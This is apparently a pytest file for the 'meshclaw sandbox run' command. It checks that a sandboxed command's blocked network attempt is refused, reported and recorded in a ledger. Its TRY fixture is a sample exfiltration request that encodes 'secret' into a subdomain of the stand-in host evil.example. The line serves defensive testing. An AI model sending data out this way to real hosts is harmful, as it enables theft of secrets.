"""``meshclaw sandbox run``: what a command tried is told and written down."""

from __future__ import annotations

import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.cli.conftest import Meshclaw
from tests.guard.sandbox.box import needs_bubblewrap, python

pytestmark = needs_bubblewrap

TRY = """
import http.client
c = http.client.HTTPConnection("127.0.0.1", 3128, timeout=5)
c.request("GET", "http://c2VjcmV0.evil.example/", headers={"Host": "c2VjcmV0.evil.example"})
print(c.getresponse().status)
"""


@pytest.fixture
def work() -> Iterator[Path]:
    """Not below /tmp, which inside is the sandbox's own."""
    with tempfile.TemporaryDirectory(prefix="meshclaw-", dir="/var/tmp") as folder:
        yield Path(folder)


def sandboxed(work: Path, *line: str) -> subprocess.CompletedProcess[str]:
    given = ["--work", str(work), "--allow", "good.example"]
    return subprocess.run(
        [sys.executable, "-m", "meshclaw", "sandbox", "run", *given, "--", *line],
        capture_output=True, text=True, check=False, stdin=subprocess.DEVNULL,
    )  # fmt: skip


def test_what_a_command_tried_stands_in_the_ledger(meshclaw: Meshclaw, work: Path) -> None:
    said = sandboxed(work, *python(TRY))
    assert (said.returncode, said.stdout) == (0, "403\n"), said.stderr
    assert "Not let out" in said.stderr
    told = meshclaw("ledger", "tail", "--json").out
    assert '"egress.refused"' in told
    assert '"sandbox.ended"' in told
    assert "evil" not in told
    assert meshclaw("ledger", "verify").code == 0


@pytest.mark.parametrize(("head", "code"), [(None, 0), ("{}", 1)])
def test_where_nothing_can_be_written_down_nothing_is_run(
    head: str | None, code: int, home: Path, work: Path
) -> None:
    if head is not None:
        (home / "ledger.head").write_text(head)
    said = sandboxed(work, "touch", str(work / "done"))
    assert (said.returncode, (work / "done").exists()) == (code, not code), said.stderr
